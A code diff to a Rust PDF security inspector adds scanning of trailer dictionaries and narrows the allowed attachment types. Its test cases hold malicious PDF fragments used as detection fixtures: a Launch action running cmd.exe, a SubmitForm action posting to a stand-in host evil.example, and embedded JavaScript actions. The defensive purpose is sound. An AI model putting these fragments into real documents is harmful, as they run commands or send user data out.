@@ -33,7 +33,7 @@ const SENSITIVE: &[&str] = &[
     "Encrypt",
 ];
 /// Attachments of invoices and of archived documents: plain data that belongs there (ZUGFeRD, Factur-X, XRechnung, NF-e).
-const PLAIN_ATTACHMENTS: &[&str] = &["xml", "txt", "csv", "json", "xmp"];
+const PLAIN_ATTACHMENTS: &[&str] = &["xml", "xmp"];
 
 pub fn inspect(data: &[u8], report: &mut dyn Report) {
     let mut pdf = Pdf::read(data, report);
@@ -58,6 +58,9 @@ pub fn inspect(data: &[u8], report: &mut dyn Report) {
         pdf.unpack_object_streams(report);
     }
     let mut facts = Facts { encrypted, ..Facts::default() };
+    for trailer in &pdf.trailers {
+        facts.walk(&pdf, trailer, 0, report);
+    }
     for object in &pdf.objects {
         facts.walk(&pdf, &object.value, 0, report);
         if report.stop() {
@@ -382,6 +385,7 @@ mod tests {
         );
         check("1 0 obj<</Names<</JavaScript 2 0 R>>>>endobj 2 0 obj<</Names[]>>endobj", &["files/pdf-javascript"]);
         check("1 0 obj<</S/J#61vaScript/JS(x)>>endobj", &["files/pdf-hidden-name", "files/pdf-javascript"]);
+        check("trailer<</Root<</OpenAction<</S/JavaScript/JS(x)>>>>>>", &["files/pdf-javascript"]);
         check("1 0 obj<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>endobj", &["files/pdf-launch"]);
         check("1 0 obj<</S/SubmitForm/F(https://evil.example/p)>>endobj", &["files/pdf-submit"]);
         check("1 0 obj<</FT/Sig/Type/Sig/Filter/Adobe.PPKLite>>endobj", &[]);
